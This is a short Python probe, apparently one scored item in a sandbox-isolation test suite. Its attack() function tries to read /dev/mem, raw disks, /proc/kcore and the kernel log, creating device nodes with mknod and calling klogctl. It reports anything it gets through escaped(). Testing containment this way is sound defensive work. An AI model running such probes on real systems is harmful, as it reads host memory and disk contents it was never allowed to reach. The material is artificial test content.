"""Reads disks, memory and the kernel's log through device files, its own and new ones.

Earns: masked_mean 2
"""

import ctypes
import stat


@in_call
def attack():
    for path in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/proc/kcore", "/dev/fuse"):
        try:
            escaped((path, os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 10)))
        except OSError:
            pass
    for number in (os.makedev(1, 1), os.makedev(8, 0), os.makedev(254, 0), os.makedev(253, 0), os.makedev(252, 0)):
        try:
            os.mknod("disk", stat.S_IFBLK | 0o600, number)
            escaped(os.read(os.open("disk", os.O_RDONLY), 10))
        except OSError:
            pass
    text = ctypes.create_string_buffer(1000)
    if ctypes.CDLL(None, use_errno=True).klogctl(3, text, 1000) > 0:
        escaped(text.value)
